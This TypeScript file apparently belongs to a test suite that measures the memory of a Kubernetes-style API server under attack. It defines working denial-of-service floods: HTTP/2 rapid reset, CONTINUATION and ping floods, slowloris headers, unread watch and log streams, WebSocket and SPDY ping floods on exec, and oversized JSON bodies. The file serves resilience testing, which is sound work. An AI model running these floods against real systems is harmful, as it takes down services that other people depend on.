import { constants } from 'node:http2';
import { encodeFrame } from '#base/spdy/frames.ts';
import {
  deafSocket,
  http2Frame,
  http2Preface,
  http2Session,
  pause,
  pour,
  spdyHeaders,
  upgraded,
  webSocketHeaders,
  type Access,
} from './peers.ts';

/** One attack: floods until `untilMs`; what it holds open is closed by then. The pod `victim` writes without end. */
export interface Flood {
  readonly name: string;
  /** How long it takes at least to show in memory what it would do; `PODWRIGHT_ATTACK_SECONDS` may say more. */
  readonly secondsMin?: number;
  readonly run: (access: Access, untilMs: number) => Promise<void>;
}

const pods = '/api/v1/namespaces/default/pods';
const exec = (command: readonly string[]): string =>
  `${pods}/victim/exec?${command.map((word) => `command=${word}`).join('&')}&stdout=true&stdin=true&stderr=true`;
const many = (count: number): readonly number[] => Array.from({ length: count }, (_, index) => index);

/** Several connections of a kind, all closed at the end. */
async function connections(
  count: number,
  untilMs: number,
  open: (index: number) => Promise<{ destroy(): unknown }>,
): Promise<void> {
  const opened = await Promise.all(many(count).map(open));
  await pause(Math.max(0, untilMs - Date.now()));
  for (const each of opened) each.destroy();
}

function upgrades(path: string, headers: () => readonly string[], count: number): Flood['run'] {
  return (access, untilMs) => connections(count, untilMs, () => upgraded(access, path, headers()));
}

const faulty: Readonly<Record<string, readonly [string, string]>> = {
  configmaps: [
    '/api/v1/namespaces/default/configmaps',
    `{"metadata":{"name":"x"},"data":{${many(285_000)
      .map((i) => `"!${i}":""`)
      .join(',')}}}`,
  ],
  'configmaps below the limit of values': [
    '/api/v1/namespaces/default/configmaps',
    `{"metadata":{"name":"x"},"data":{${many(95_000)
      .map((i) => `"!${i}":""`)
      .join(',')}}}`,
  ],
  containers: [
    pods,
    `{"metadata":{"name":"x"},"spec":{"containers":[${many(238_000)
      .map(() => '{"name":"c"}')
      .join(',')}]}}`,
  ],
  rules: [
    '/apis/rbac.authorization.k8s.io/v1/namespaces/default/roles',
    `{"metadata":{"name":"x"},"rules":[${many(900_000)
      .map(() => '{}')
      .join(',')}]}`,
  ],
  'rules below the limit of values': [
    '/apis/rbac.authorization.k8s.io/v1/namespaces/default/roles',
    `{"metadata":{"name":"x"},"rules":[${many(95_000)
      .map(() => '{}')
      .join(',')}]}`,
  ],
};

/** Eight clients that post objects full of faults and read nothing of the answers. */
function postFaults([path, body]: readonly [string, string]): Flood['run'] {
  return async (access, untilMs) => {
    const bytes = Buffer.from(body);
    const head = `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${bytes.length}\r\n\r\n`;
    const client = async (): Promise<void> => {
      while (Date.now() < untilMs) {
        const socket = await deafSocket(access, 'http/1.1');
        socket.write(head);
        socket.write(bytes);
        await pause(1000);
        socket.destroy();
      }
    };
    await Promise.all(many(8).map(client));
  };
}

function http2Flood(frames: Buffer): Flood['run'] {
  return async (access, untilMs) => {
    const socket = await deafSocket(access, 'h2');
    socket.write(http2Preface);
    await pour(socket, frames, untilMs);
    socket.destroy();
  };
}

async function rapidReset(access: Access, untilMs: number): Promise<void> {
  while (Date.now() < untilMs) {
    const session = http2Session(access);
    while (Date.now() < untilMs && !session.closed && !session.destroyed) {
      for (let i = 0; i < 50 && !session.destroyed; i++) {
        const stream = session.request({ ':path': '/api/v1/configmaps' });
        stream.on('error', () => undefined);
        stream.close(constants.NGHTTP2_CANCEL);
      }
      await new Promise(setImmediate);
    }
    session.destroy();
  }
}

/** Lists and single objects on streams whose window is closed. */
async function closedWindows(access: Access, untilMs: number): Promise<void> {
  const sessions = many(8).map(() => http2Session(access));
  for (const session of sessions) {
    for (let i = 0; i < 900; i++) {
      const stream = session.request({ ':path': i % 2 === 0 ? '/api/v1/configmaps' : '/openapi/v2' });
      stream.on('error', () => undefined);
    }
  }
  await pause(Math.max(0, untilMs - Date.now()));
  for (const session of sessions) session.destroy();
}

/** Watches that are not read while objects of a megabyte change. */
async function deafWatches(access: Access, untilMs: number): Promise<void> {
  const sockets = await Promise.all(
    many(20).map(async () => {
      const socket = await deafSocket(access, 'http/1.1');
      socket.write('GET /api/v1/configmaps?watch=true HTTP/1.1\r\nHost: x\r\n\r\n');
      return socket;
    }),
  );
  const session = http2Session(access);
  for (let i = 0; Date.now() < untilMs; i++) {
    const stream = session.request({
      ':method': 'PATCH',
      ':path': '/api/v1/namespaces/default/configmaps/large-0',
      'content-type': 'application/merge-patch+json',
    });
    stream.on('error', () => undefined);
    stream.end(JSON.stringify({ data: { n: String(i) } }));
    await pause(20);
  }
  session.destroy();
  for (const socket of sockets) socket.destroy();
}

/** Heads and bodies that come byte by byte. */
async function slowHeads(access: Access, untilMs: number): Promise<void> {
  const sockets = await Promise.all(many(300).map(() => deafSocket(access, 'http/1.1')));
  while (Date.now() < untilMs) {
    for (const socket of sockets) if (!socket.destroyed) socket.write('X-A: b\r\n');
    await pause(500);
  }
  for (const socket of sockets) socket.destroy();
}

const spdyPings = Buffer.concat(many(5000).map(() => encodeFrame({ type: 'ping', id: 1 })));
const webSocketPing = Buffer.concat(many(5000).map(() => Buffer.of(0x89, 0x80, 0, 0, 0, 0)));

function pouring(headers: () => readonly string[], chunk: Buffer): Flood['run'] {
  return async (access, untilMs) => {
    const socket = await upgraded(access, exec(['sleep', '1000']), headers());
    await pour(socket, chunk, untilMs);
    socket.destroy();
  };
}

export const floods: readonly Flood[] = [
  { name: 'SPDY pings', run: pouring(() => spdyHeaders, spdyPings) },
  { name: 'WebSocket pings', run: pouring(webSocketHeaders, webSocketPing) },
  { name: 'output of exec by WebSocket', secondsMin: 3, run: upgrades(exec(['yes']), webSocketHeaders, 5) },
  {
    name: 'attach by many',
    run: upgrades(`${pods}/victim/attach?stdout=true`, webSocketHeaders, 20),
  },
  {
    name: 'followed logs',
    run: (access, untilMs) =>
      connections(20, untilMs, async () => {
        const socket = await deafSocket(access, 'http/1.1');
        socket.write(`GET ${pods}/victim/log?follow=true HTTP/1.1\r\nHost: x\r\n\r\n`);
        return socket;
      }),
  },
  { name: 'watches', secondsMin: 3, run: deafWatches },
  {
    name: 'HTTP/2 pings',
    run: http2Flood(Buffer.concat(many(4000).map(() => http2Frame(6, 0, 0, Buffer.alloc(8))))),
  },
  {
    name: 'HTTP/2 settings',
    run: http2Flood(Buffer.concat(many(4000).map(() => http2Frame(4, 0, 0, Buffer.alloc(6))))),
  },
  {
    name: 'HTTP/2 headers without end',
    run: http2Flood(
      Buffer.concat([
        http2Frame(1, 0, 1, Buffer.alloc(0)),
        ...many(4000).map(() => http2Frame(9, 0, 1, Buffer.from('\x00\x01a\x01b', 'latin1'))),
      ]),
    ),
  },
  { name: 'HTTP/2 rapid reset', run: rapidReset },
  { name: 'HTTP/2 closed windows', secondsMin: 3, run: closedWindows },
  { name: 'heads without end', secondsMin: 3, run: slowHeads },
  ...Object.entries(faulty).map(([name, request]) => ({ name: `faults: ${name}`, run: postFaults(request) })),
];
